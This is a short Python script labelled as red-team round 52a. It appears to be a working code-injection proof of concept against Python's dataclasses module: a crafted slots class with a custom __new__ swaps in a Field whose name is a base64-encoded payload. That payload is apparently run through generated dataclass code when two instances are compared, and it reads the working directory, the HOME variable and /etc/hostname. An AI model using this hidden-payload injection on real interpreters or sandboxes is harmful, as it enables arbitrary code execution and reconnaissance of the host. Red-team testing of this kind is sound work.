# family: red team, round 52a (dataclasses.asdict deep-copies a value holding a slots object whose __new__ hands back a Field; asdict recurses into dataclasses instead, so no copy happens)
import base64
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


box = []


@dataclasses.dataclass(slots=True, eq=False)
class Sneaky:
    name: str

    def __new__(cls, *args):
        if box:
            return box[0]
        return object.__new__(cls)


@dataclasses.dataclass
class Holder:
    item: object = None


def main():
    h = Holder(Sneaky(base64.b64decode(CODE).decode()))
    box.append(dataclasses.fields(A)[0])
    dataclasses.asdict(h)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
